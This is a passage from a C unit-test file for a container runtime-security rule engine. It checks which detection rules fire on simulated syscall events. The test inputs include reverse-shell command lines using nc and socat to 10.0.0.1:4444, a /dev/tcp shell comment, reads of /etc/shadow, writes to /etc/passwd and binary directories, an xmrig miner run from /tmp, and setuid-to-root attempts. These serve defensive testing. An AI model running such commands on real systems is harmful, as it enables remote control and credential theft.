	fake__exec(&f, "sh", 0, &ctr_web, "/bin/sh", "/bin/busybox", "sh", 136 << 20 | 1);
	assert_string_equal(match_name(rs, &f.evt), "Terminal shell in container");
	/* The entrypoint's sh -c has no terminal. */
	fake__exec(&f, "sh", 0, &ctr_web, "/bin/sh", "/bin/busybox", "sh -c nginx", 0);
	assert_string_equal(match_name(rs, &f.evt), "");
	/* A terminal shell on the host. */
	fake__exec(&f, "bash", 1000, &ctr_host, "/bin/bash", "/usr/bin/bash", "bash", 34817);
	assert_string_equal(match_name(rs, &f.evt), "");
	/* The shell's PATH search failing is not a shell starting. */
	fake__exec(&f, "bash", 0, &ctr_web, "/usr/local/bin/foo", "", "foo", 136 << 20 | 1);
	assert_string_equal(match_name(rs, &f.evt), "");

	/* cat /etc/shadow, on the host, allowed or refused */
	fake__open(&f, VIGIL_SC_OPENAT, "cat", &ctr_host, "/etc/shadow", "/etc/shadow",
		   O_RDONLY | O_CLOEXEC, 3);
	assert_string_equal(match_name(rs, &f.evt), "Read sensitive file untrusted");
	fake__open(&f, VIGIL_SC_OPENAT, "cat", &ctr_web, "/etc/shadow", "", O_RDONLY, -13);
	assert_string_equal(match_name(rs, &f.evt), "Read sensitive file untrusted");
	fake__open(&f, VIGIL_SC_OPEN, "python3", &ctr_web, "../../etc/sudoers", "/etc/sudoers",
		   O_RDWR, 4);
	assert_string_equal(match_name(rs, &f.evt), "Read sensitive file untrusted");
	fake__open(&f, VIGIL_SC_OPENAT, "sshd", &ctr_host, "/etc/shadow", "/etc/shadow", O_RDONLY,
		   5);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__open(&f, VIGIL_SC_OPENAT, "cat", &ctr_host, "/etc/passwd", "/etc/passwd", O_RDONLY,
		   3);
	assert_string_equal(match_name(rs, &f.evt), "");

	/* echo x >> /etc/passwd in a container */
	fake__open(&f, VIGIL_SC_OPENAT, "sh", &ctr_web, "/etc/passwd", "/etc/passwd",
		   O_WRONLY | O_CREAT | O_APPEND, 3);
	assert_string_equal(match_name(rs, &f.evt), "Write below etc in container");
	fake__open(&f, VIGIL_SC_CREAT, "touch", &ctr_web, "/etc/cron.d/x", "/etc/cron.d/x",
		   O_WRONLY | O_CREAT | O_TRUNC, 3);
	assert_string_equal(match_name(rs, &f.evt), "Write below etc in container");
	fake__open(&f, VIGIL_SC_OPENAT, "sh", &ctr_host, "/etc/passwd", "/etc/passwd",
		   O_WRONLY | O_APPEND, 3);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__open(&f, VIGIL_SC_OPENAT, "dpkg", &ctr_web, "/etc/ld.so.cache", "/etc/ld.so.cache",
		   O_WRONLY | O_CREAT | O_TRUNC, 3);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__open(&f, VIGIL_SC_OPENAT, "sh", &ctr_web, "/etc/hosts", "/etc/hosts", O_RDONLY, 3);
	assert_string_equal(match_name(rs, &f.evt), "");

	/* cp evil /usr/bin/ls in a container; /bin is a symlink to /usr/bin */
	fake__open(&f, VIGIL_SC_OPENAT, "cp", &ctr_web, "/usr/bin/ls", "/usr/bin/ls",
		   O_WRONLY | O_CREAT | O_TRUNC, 4);
	assert_string_equal(match_name(rs, &f.evt), "Write below binary dir in container");
	fake__open(&f, VIGIL_SC_CREAT, "sh", &ctr_web, "/bin/x", "/usr/bin/x",
		   O_WRONLY | O_CREAT | O_TRUNC, 4);
	assert_string_equal(match_name(rs, &f.evt), "Write below binary dir in container");
	fake__open(&f, VIGIL_SC_OPENAT2, "cp", &ctr_web, "/usr/local/bin/sub/x",
		   "/usr/local/bin/sub/x", O_RDWR | O_CREAT, 4);
	assert_string_equal(match_name(rs, &f.evt), "Write below binary dir in container");
	fake__open(&f, VIGIL_SC_OPENAT, "cp", &ctr_web, "/usr/lib/x", "/usr/lib/x",
		   O_WRONLY | O_CREAT, 4);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__open(&f, VIGIL_SC_OPENAT, "cp", &ctr_web, "/usr/binx/x", "/usr/binx/x",
		   O_WRONLY | O_CREAT, 4);
	assert_string_equal(match_name(rs, &f.evt), "");

	/* A program, or a script, started from /tmp or /dev/shm */
	fake__exec(&f, "xmrig", 1000, &ctr_host, "./xmrig", "/tmp/.x/xmrig", "./xmrig -o pool", 0);
	assert_string_equal(match_name(rs, &f.evt), "Execution from /tmp or /dev/shm");
	fake__exec(&f, "run.sh", 0, &ctr_web, "/dev/shm/run.sh", "/usr/bin/bash", "/dev/shm/run.sh",
		   0);
	assert_string_equal(match_name(rs, &f.evt), "Execution from /tmp or /dev/shm");
	fake__exec(&f, "ls", 1000, &ctr_host, "/usr/bin/ls", "/usr/bin/ls", "ls /tmp", 0);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__exec(&f, "tool", 1000, &ctr_host, "/tmpfs/tool", "/tmpfs/tool", "tool", 0);
	assert_string_equal(match_name(rs, &f.evt), "");

	/* apt-get install in a container, but not on the host */
	fake__exec(&f, "apt-get", 0, &ctr_web, "/usr/bin/apt-get", "/usr/bin/apt-get",
		   "apt-get install -y nmap", 0);
	assert_string_equal(match_name(rs, &f.evt),
			    "Package management process launched in container");
	fake__exec(&f, "apt-get", 0, &ctr_host, "/usr/bin/apt-get", "/usr/bin/apt-get",
		   "apt-get upgrade", 0);
	assert_string_equal(match_name(rs, &f.evt), "");

	/* nc -e /bin/sh, socat EXEC: in a container */
	fake__exec(&f, "nc", 0, &ctr_web, "/usr/bin/nc", "/bin/busybox",
		   "nc 10.0.0.1 4444 -e /bin/sh", 0);
	assert_string_equal(match_name(rs, &f.evt), "Netcat remote code execution in container");
	fake__exec(&f, "socat", 0, &ctr_web, "/usr/bin/socat", "/usr/bin/socat",
		   "socat tcp:10.0.0.1:4444 EXEC:/bin/bash", 0);
	assert_string_equal(match_name(rs, &f.evt), "Netcat remote code execution in container");
	fake__exec(&f, "nc", 0, &ctr_web, "/usr/bin/nc", "/bin/busybox", "nc -z db 5432", 0);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__exec(&f, "nc", 0, &ctr_host, "/usr/bin/nc", "/usr/bin/nc", "nc -e /bin/sh x 1", 0);
	assert_string_equal(match_name(rs, &f.evt), "");

	/* bash -i >& /dev/tcp/10.0.0.1/4444, refused or not */
	fake__connect(&f, "bash", &ctr_web, AF_INET, "10.0.0.1", 4444, -111);
	assert_string_equal(match_name(rs, &f.evt), "Network connection by shell or netcat");
	fake__connect(&f, "nc", &ctr_host, AF_INET6, "2001:db8::7", 443, -115);
	assert_string_equal(match_name(rs, &f.evt), "Network connection by shell or netcat");
	fake__connect(&f, "curl", &ctr_web, AF_INET, "10.0.0.1", 443, 0);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__connect(&f, "bash", &ctr_host, AF_UNIX, "/run/dbus/system_bus_socket", 0, 0);
	assert_string_equal(match_name(rs, &f.evt), "");

	/* setuid(0) and friends from uid 1000 */
	fake__setid(&f, VIGIL_SC_SETUID, "exploit", 1000, 0, UINT32_MAX, UINT32_MAX, 0);
	assert_string_equal(match_name(rs, &f.evt), "Non-root process becomes root");
	fake__setid(&f, VIGIL_SC_SETRESUID, "exploit", 1000, UINT32_MAX, 0, UINT32_MAX, 0);
	assert_string_equal(match_name(rs, &f.evt), "Non-root process becomes root");
	fake__setid(&f, VIGIL_SC_SETREUID, "exploit", 1000, 0, 0, UINT32_MAX, 0);
	assert_string_equal(match_name(rs, &f.evt), "Non-root process becomes root");
	/* Refused (EPERM): the attempt is what an exploit probing for a hole does. */
	fake__setid(&f, VIGIL_SC_SETUID, "become-root", 1000, 0, UINT32_MAX, UINT32_MAX, -1);
	assert_string_equal(match_name(rs, &f.evt), "Non-root process becomes root");
	fake__setid(&f, VIGIL_SC_SETUID, "sudo", 1000, 0, UINT32_MAX, UINT32_MAX, 0);
	assert_string_equal(match_name(rs, &f.evt), "");
	/* Root dropping to a user and back is not becoming root. */
	fake__setid(&f, VIGIL_SC_SETUID, "sshd", 0, 0, UINT32_MAX, UINT32_MAX, 0);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__setid(&f, VIGIL_SC_SETUID, "exploit", 1000, 1001, UINT32_MAX, UINT32_MAX, 0);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__setid(&f, VIGIL_SC_SETGID, "exploit", 1000, 0, UINT32_MAX, UINT32_MAX, 0);
	assert_string_equal(match_name(rs, &f.evt), "");

	/* Process start and end: nothing. */
	fake__init(&f, VIGIL_EVENT_FORK, VIGIL_SC_NONE, "bash", 0, &ctr_web);
	assert_string_equal(match_name(rs, &f.evt), "");
	rules__free(rs);
}

static void test_default_rules_tuning(void **state)
{
	const char *paths[] = { "rules/vigil_rules.yaml", DATA "local_tuning.yaml" };
	struct ruleset *rs;
	struct fake f;
	char *said;

	(void)state;
	rs = load(paths, 2, &said);
	assert_non_null(rs);
	assert_string_equal(said, "");
	free(said);
	assert_int_equal(rules__count(rs), ARRAY_SIZE(default_rules) - 1);

	/* confd may write below /etc/confd, and only there. */
	fake__open(&f, VIGIL_SC_OPENAT, "confd", &ctr_web, "/etc/confd/app.toml",
		   "/etc/confd/app.toml", O_WRONLY | O_CREAT | O_TRUNC, 3);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__open(&f, VIGIL_SC_OPENAT, "confd", &ctr_web, "/etc/passwd", "/etc/passwd",
		   O_WRONLY, 3);
	assert_string_equal(match_name(rs, &f.evt), "Write below etc in container");
	fake__open(&f, VIGIL_SC_OPENAT, "sh", &ctr_web, "/etc/confd/app.toml",
		   "/etc/confd/app.toml", O_WRONLY, 3);
	assert_string_equal(match_name(rs, &f.evt), "Write below etc in container");
	/* poetry is a package manager now. */
	fake__exec(&f, "poetry", 0, &ctr_web, "/usr/bin/poetry", "/usr/bin/poetry",
		   "poetry install", 0);
	assert_string_equal(match_name(rs, &f.evt),
			    "Package management process launched in container");
	/* And the netcat connection rule is off. */
	fake__connect(&f, "bash", &ctr_web, AF_INET, "10.0.0.1", 4444, -111);
	assert_string_equal(match_name(rs, &f.evt), "");
	rules__free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_priorities),
		cmocka_unit_test(test_bad_files),
		cmocka_unit_test(test_errors_across_files),
		cmocka_unit_test(test_warnings),
		cmocka_unit_test(test_empty),
		cmocka_unit_test(test_directory),
		cmocka_unit_test(test_trees),
		cmocka_unit_test(test_macro_append),
		cmocka_unit_test(test_redefine_and_toggle),
		cmocka_unit_test(test_syscalls),
		cmocka_unit_test(test_buckets),
		cmocka_unit_test(test_default_rules_load),
		cmocka_unit_test(test_default_rules_fire),
		cmocka_unit_test(test_default_rules_tuning),
	};

	return cmocka_run_group_tests_name("rules", tests, NULL, NULL);
}
